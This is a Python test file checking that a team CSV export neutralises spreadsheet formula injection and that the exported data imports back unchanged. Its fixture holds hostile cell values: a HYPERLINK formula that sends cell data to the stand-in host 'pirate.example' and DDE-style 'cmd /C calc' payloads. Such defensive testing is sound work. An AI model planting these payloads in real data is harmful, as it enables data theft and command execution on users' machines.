"""Formula injection through the team export: a spreadsheet opening the CSV computes nothing."""

import csv
import io
import zipfile

from carnet.imports.export import export_team
from carnet.imports.package import import_package
from carnet.youths.models import Youth
from tests import factories

HOSTILE = {
    "first_name": '=HYPERLINK("http://pirate.example/?d="&B2;"Voir")',
    "nickname": "@SUM(1+9)*cmd|' /C calc'!A0",
    "code": "+1+2",
    "last_name": "-2+3",
}


def csv_rows(content: bytes, name: str) -> list[list[str]]:
    text = zipfile.ZipFile(io.BytesIO(content)).read(name).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_formula_injection_through_youth_names_is_written_behind_an_apostrophe_in_the_csv(team, montigny):
    youth = factories.YouthFactory(team=team, commune=montigny, external_id="J1", **HOSTILE)
    factories.InterventionFactory(youth=youth, domains=["scolarite"], note="\tcmd /c calc")

    content = export_team(team=team, user=None)

    header, row = csv_rows(content, "jeunes.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["Prénom"] == "'" + HOSTILE["first_name"]
    assert cells["Surnom"] == "'" + HOSTILE["nickname"]
    assert cells["Code"] == "'+1+2"
    assert cells["Nom"] == "'-2+3"
    _header, intervention = csv_rows(content, "interventions.csv")
    assert intervention[-1] == "'\tcmd /c calc"
    every_cell = [
        cell
        for name in ("jeunes.csv", "interventions.csv")
        for row in csv_rows(content, name)
        for cell in row
    ]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_an_export_with_neutralised_formulas_imports_back_as_typed(team, montigny):
    factories.YouthFactory(team=team, commune=montigny, external_id="J1", **HOSTILE)
    content = export_team(team=team, user=None)
    other = factories.TeamFactory(organisation=team.organisation)
    factories.CommuneFactory(team=other, name=montigny.name)

    report = import_package(content=content, filename="equipe.zip", team=other, dry_run=False)

    assert report.written, report.lines()
    copy = Youth.objects.get(team=other)
    assert {name: getattr(copy, name) for name in HOSTILE} == HOSTILE
